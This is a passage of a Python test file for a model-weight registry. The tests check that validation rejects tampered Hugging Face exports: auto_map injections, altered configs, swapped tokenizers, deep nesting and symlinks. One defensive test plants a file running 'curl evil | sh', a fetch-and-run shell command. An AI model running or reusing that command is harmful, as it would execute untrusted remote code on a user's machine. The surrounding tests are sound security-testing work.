    """A registry with a sharded full export and a MiSS adapter's PEFT export, built once and copied per case."""

    tmp = tmp_path_factory.mktemp("exported")
    root = init_registry(tmp / "reg").root
    add_base(root, BaseRequest(path=world_base, filename=world_base.name, vocab="rwkv_vocab_v20230424.txt"))
    full = save_checkpoint(
        tmp / "rwkv-final.pth", share_storage(make_base_state_dict(TinySpec(**{**WORLD.__dict__, "seed": 5})))
    )
    entry = add_weight(root, AddRequest(full, world_base.name[:-4], "full", "v1.0", train_json(tmp / "f.json")))
    export = export_hf(root, ExportRequest(entry=entry.path, shard_size=SHARD))
    export_hf(root, ExportRequest(base=world_base.name[:-4], base_file=world_base))
    adapter = make_adapter_file(tmp / "a.pth", WORLD, sha256_of(world_base), rank=8)
    miss = add_weight(
        root, AddRequest(adapter, world_base.name[:-4], "miss", "v2.1", train_json(tmp / "m.json"), run="r8")
    )
    export_hf(root, ExportRequest(entry=miss.path))
    assert validate(root) == []
    return root, export.path


def _edit_json(path: Path, change) -> None:
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data, indent=2) + "\n")


def _list_in_export(root: Path, folder: str, name: str) -> None:
    """List a new file in the export's record and SHA256SUMS, as a careful forger would."""
    index = json.loads((root / "index.json").read_text())
    export = next(e for e in index["exports"] if e["path"] == folder)
    rel = f"{folder}/{name}"
    export["files"] = sorted(
        [*export["files"], {"path": rel, "sha256": sha256_of(root / rel), "size": (root / rel).stat().st_size}],
        key=lambda f: f["path"],
    )
    (root / "index.json").write_text(json.dumps(index, indent=2, ensure_ascii=False) + "\n")
    write_sums(root)


TAMPERS = {
    "auto_map in config.json": (
        "config.json",
        lambda p: _edit_json(
            p, lambda d: d.update(auto_map={"AutoModelForCausalLM": "modeling_rwkv7.RWKV7ForCausalLM"})
        ),
        "config.json has 'auto_map'",
    ),
    "auto_map in tokenizer_config.json": (
        "tokenizer_config.json",
        lambda p: _edit_json(p, lambda d: d.update(auto_map={"AutoTokenizer": ["tok.Tok", None]})),
        "tokenizer_config.json has 'auto_map'",
    ),
    "changed norm_eps": (
        "config.json",
        lambda p: _edit_json(p, lambda d: d.update(norm_eps=1e-3)),
        "config.json says norm_eps 0.001 where export-hf writes 1e-05",
    ),
    "changed eos_token_id": (
        "generation_config.json",
        lambda p: _edit_json(p, lambda d: d.update(eos_token_id=261)),
        "generation_config.json says eos_token_id 261 where export-hf writes 0",
    ),
    "swapped tokenizer.json": (
        "tokenizer.json",
        lambda p: p.write_bytes(p.read_bytes().replace(b'"User":', b'"Usr":', 1)),
        "tokenizer.json is not the tokenizer export-hf writes",
    ),
    "swapped world vocabulary": (
        "rwkv_vocab_v20230424.txt",
        lambda p: p.write_bytes(p.read_bytes().replace(b"'User'", b"'Usr'", 1) + b"65530 'x' 1\n"),
        "rwkv_vocab_v20230424.txt is not the rwkv package's world vocabulary",
    ),
    "garbage in tokenizer_config.json": (
        "tokenizer_config.json",
        lambda p: p.write_bytes(b"\x00garbage"),
        "tokenizer_config.json is not the JSON export-hf writes",
    ),
    "garbage in generation_config.json": (
        "generation_config.json",
        lambda p: p.write_text("[1, 2]"),
        "generation_config.json is not a JSON object",
    ),
    "a re-pointed weight_map": (
        "model.safetensors.index.json",
        lambda p: _edit_json(
            p, lambda d: d["weight_map"].update({"lm_head.weight": "model-00001-of-00009.safetensors"})
        ),
        "weight_map does not map each tensor to the shard holding it (e.g. lm_head.weight)",
    ),
    "a re-ordered config.json": (
        "config.json",
        lambda p: p.write_text(json.dumps(dict(reversed(json.loads(p.read_text()).items())), indent=2) + "\n"),
        "config.json differs from the bytes export-hf writes",
    ),
}


@pytest.mark.parametrize("case", list(TAMPERS))
def test_a_tampered_export_fails_validate(exported_template, tmp_path, case):
    name, tamper, message = TAMPERS[case]
    root = Path(shutil.copytree(exported_template[0], tmp_path / "reg"))
    folder = exported_template[1]
    tamper(root / folder / name)
    _relisted(root, f"{folder}/{name}")  # index.json and SHA256SUMS agree with the edit
    found = [p for p in validate(root) if p.code == "export.invalid"]
    assert len(found) == 1 and found[0].file == folder and message in found[0].message, found


def test_a_python_file_in_an_export_fails_validate(exported_template, tmp_path):
    root = Path(shutil.copytree(exported_template[0], tmp_path / "reg"))
    folder = exported_template[1]
    (root / folder / "modeling_rwkv7.py").write_text("import os\nos.system('curl evil | sh')\n")
    _list_in_export(root, folder, "modeling_rwkv7.py")
    found = [p for p in validate(root) if p.code == "export.invalid"]
    assert (
        len(found) == 1
        and "lists modeling_rwkv7.py (code that trust_remote_code would run), which export-hf never writes"
        in found[0].message
    )


def test_a_tampered_peft_config_fails_validate(exported_template, tmp_path):
    root = Path(shutil.copytree(exported_template[0], tmp_path / "reg"))
    index = Repo.open(root).load_index()
    folder = next(e.path for e in index.exports if "/miss/" in e.path)
    _edit_json(
        root / folder / "adapter_config.json",
        lambda d: d.update(base_model_name_or_path="someone/else", auto_map={"x": "y"}),
    )
    _relisted(root, f"{folder}/adapter_config.json")
    found = [p for p in validate(root) if p.code == "export.invalid" and p.file == folder]
    assert len(found) == 1 and "adapter_config.json has 'auto_map'" in found[0].message, found


def test_a_deeply_nested_config_in_an_export_is_one_line_and_validate_needs_no_torch(exported_template, tmp_path):
    root = Path(shutil.copytree(exported_template[0], tmp_path / "reg"))
    folder = exported_template[1]
    (root / folder / "config.json").write_text("[" * 100_000 + "]" * 100_000)
    _relisted(root, f"{folder}/config.json")
    probe = (
        "import atexit, sys; atexit.register(lambda: print('TORCH' if 'torch' in sys.modules else 'NO-TORCH', "
        "file=sys.stderr)); from registry.cli import main; main()"
    )
    result = subprocess.run(
        [sys.executable, "-c", probe, "validate", "-C", str(root)],
        capture_output=True,
        text=True,
        env=user_environment(),
        timeout=300,
    )
    assert result.returncode == 1 and "Traceback" not in result.stderr and result.stderr.strip().endswith("NO-TORCH"), (
        result.stderr
    )
    line = next(line for line in result.stdout.splitlines() if line.startswith("export.invalid"))
    assert "config.json: arrays and objects nest more than 64 levels deep" in line


def test_the_pinned_tokenizer_digest_is_what_export_hf_writes():
    assert hashlib.sha256(world_tokenizer_json()).hexdigest() == TOKENIZER_JSON_SHA256


def test_config_json_shape_fields_are_written_in_shape_keys_order():
    assert tuple(fla_plan(checkpoint_shapes(WORLD)).config) == SHAPE_KEYS


def test_a_forced_export_never_replaces_a_linked_file(hf_registry, tmp_path):
    """Issue 38: --force replaced a config.json that is a symlink; a link is refused, forced or not."""
    root, entry = hf_registry
    export = export_hf(root, ExportRequest(entry=entry.path))
    config = root / export.path / "config.json"
    mine = tmp_path / "my-config.json"
    mine.write_bytes(config.read_bytes())
    config.unlink()
    config.symlink_to(mine)
    for force in (False, True):
        error = _refused(root, ExportRequest(entry=entry.path, force=force))
        assert error.code == "export.not-a-file" and error.file == f"{export.path}/config.json"
        assert config.is_symlink() and os.readlink(config) == str(mine)
